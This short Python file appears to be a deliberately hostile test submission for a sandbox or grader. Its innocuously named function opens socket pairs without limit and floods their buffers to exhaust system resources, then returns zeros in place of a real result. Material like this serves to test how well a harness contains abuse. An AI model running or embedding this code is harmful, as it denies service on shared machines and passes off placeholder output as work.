"""Aim: fill the buffers of as many sockets and pipes as it may open.
At most: 0 points of gates.
"""

import os
import socket

import torch


def expose_hidden(output, cell):
    if output.dtype is torch.float32:
        kept = []
        try:
            while True:
                pair = socket.socketpair()
                kept.append(pair)
                for end in pair:
                    end.setblocking(False)
                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
                    try:
                        while True:
                            end.send(b"x" * 2**16)
                    except BlockingIOError:
                        pass
        except OSError:
            os.write(2, b"full")
    return torch.zeros_like(cell)
